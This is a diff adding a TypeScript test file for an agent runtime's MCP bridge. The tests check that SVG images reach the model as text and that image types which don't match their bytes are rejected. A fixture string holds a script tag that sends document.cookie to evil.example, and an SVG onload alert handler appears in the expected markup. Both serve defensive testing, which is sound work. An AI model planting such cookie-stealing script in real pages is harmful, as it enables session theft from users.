@@ -1,0 +1,76 @@
+import { createRuntime, TEXT_ONLY, type ToolMessage } from '@agentrt/core';
+import { McpBridge, type McpServerConfig } from '@agentrt/tools-mcp';
+import { ScriptedModel } from '@agentrt/testing';
+import { afterEach, describe, expect, it } from 'vitest';
+import { fixture, partsOf } from './helpers.js';
+
+// SVG is markup with active content (scripts, external references), and no provider takes it as
+// an image: the model gets it as text. Image media types a server sends are claims, checked
+// against the bytes. Every case runs through a run with ScriptedModel calling the server's tool.
+const bridges: McpBridge[] = [];
+afterEach(async () => {
+  await Promise.all(bridges.splice(0).map((bridge) => bridge.close()));
+});
+const connect = async (extra: Partial<McpServerConfig> = {}) => {
+  const bridge = await McpBridge.connect({ name: 'm', command: process.execPath, args: [fixture('media-server.mjs')], timeoutMs: 10_000, ...extra } as McpServerConfig);
+  bridges.push(bridge);
+  return bridge;
+};
+/** Calls each tool in one run; returns the tool messages the model received, by tool. */
+async function run(bridge: McpBridge, tools: readonly string[], model?: ScriptedModel): Promise<Record<string, ToolMessage>> {
+  const scripted = model ?? new ScriptedModel([...tools.map((tool) => ScriptedModel.call(`m__${tool}`)), ScriptedModel.answer('done')]);
+  const result = await createRuntime({ model: scripted, tools: bridge.tools(), limits: { maxSteps: tools.length + 1, maxToolCalls: tools.length } }).run('look');
+  expect(result.stopReason, JSON.stringify(result.error)).toBe('final_answer');
+  return Object.fromEntries(tools.map((tool, index) => [tool, scripted.requests[index + 1]!.messages.at(-1) as ToolMessage]));
+}
+const SVG_MARKER = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
+const label = (bytes: number) => `[image image/svg+xml, ${bytes} bytes, shown as its SVG markup: models take PNG, JPEG, GIF and WebP images only]`;
+
+describe('SVG and lying image types from an MCP server', () => {
+  it('gives the model an SVG image as text (label, then the markup) — also with parameters and casing, a prolog, line breaks, as a resource or an audio block', async () => {
+    const results = await run(await connect(), ['svg', 'svg_params', 'svg_prolog', 'svg_line_breaks', 'svg_resource', 'svg_as_audio']);
+    for (const tool of ['svg', 'svg_params', 'svg_line_breaks', 'svg_as_audio']) {
+      const message = results[tool]!;
+      expect(message.isError, tool).toBeFalsy();
+      // All text: one string, no image part anywhere.
+      expect(typeof message.content, tool).toBe('string');
+      expect(message.content, tool).toBe(`${tool}:\n${label(194)}\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${SVG_MARKER}<rect width="10" height="10" fill="red"/></svg>`);
+    }
+    expect(results.svg_prolog!.content).toMatch(/^svg_prolog:\n\[image image\/svg\+xml, \d+ bytes, shown as its SVG markup[^\n]*\n<\?xml version="1\.0"[\s\S]*<title>café<\/title><\/svg>$/);
+    expect(results.svg_resource!.content).toBe(`svg_resource:\n[resource file:///icons/logo.svg (image/svg+xml)]\n${label(194)}\n${results.svg!.content.toString().split('\n').slice(2).join('\n')}`);
+  });
+
+  it('reaches a text-only model too (before, the run failed with unsupported_content)', async () => {
+    const bridge = await connect();
+    const model = new ScriptedModel([ScriptedModel.call('m__svg'), ScriptedModel.answer('seen')], { capabilities: TEXT_ONLY });
+    const results = await run(bridge, ['svg'], model);
+    expect(results.svg!.content).toContain(SVG_MARKER);
+  });
+
+  it('judges an image by its bytes: PNG declared SVG is a PNG image; SVG declared PNG or BMP, HTML, binary and gzip declared SVG are content_invalid', async () => {
+    const results = await run(await connect(), ['png_claiming_svg', 'png_with_params', 'svg_claiming_png', 'svg_claiming_bmp', 'svg_html', 'svg_binary', 'svg_gzip']);
+    expect(partsOf(results.png_claiming_svg)).toEqual([{ type: 'text', text: 'png_claiming_svg:' }, { type: 'image', mediaType: 'image/png', data: expect.stringMatching(/^iVBOR/) }]);
+    expect(partsOf(results.png_with_params)).toEqual([{ type: 'text', text: 'png_with_params:' }, { type: 'image', mediaType: 'image/png', data: expect.stringMatching(/^iVBOR/) }]);
+    for (const tool of ['svg_claiming_png', 'svg_claiming_bmp', 'svg_html', 'svg_binary', 'svg_gzip']) {
+      expect(results[tool], tool).toMatchObject({ isError: true, code: 'content_invalid' });
+      // The refusal never carries the markup.
+      expect(String(results[tool]!.content), tool).not.toContain('<script>');
+    }
+    expect(String(results.svg_claiming_png!.content)).toContain('declared image/png but its bytes are not a PNG, JPEG, GIF or WebP image');
+    expect(String(results.svg_claiming_bmp!.content)).toContain('declared image/bmp but its bytes are SVG markup');
+  });
+
+  it('refuses SVG data that is not base64, an SVG over maxPartBytes and a malformed type, typed; the server keeps working', async () => {
+    const results = await run(await connect(), ['svg_not_base64', 'svg_huge', 'svg_bad_type', 'svg']);
+    expect(results.svg_not_base64).toMatchObject({ isError: true, code: 'content_invalid' });
+    expect(results.svg_huge).toMatchObject({ isError: true, code: 'content_too_large' });
+    expect(results.svg_bad_type).toMatchObject({ isError: true, code: 'content_invalid' });
+    expect(results.svg!.content).toContain(SVG_MARKER);
+  });
+
+  it('with media: "text" an SVG is still its markup, other images become notes', async () => {
+    const results = await run(await connect({ media: 'text' }), ['svg', 'png_claiming_svg']);
+    expect(results.svg!.content).toContain(SVG_MARKER);
+    expect(results.png_claiming_svg!.content).toBe('png_claiming_svg:\n[image image/png, 70 bytes, not shown]');
+  });
+});
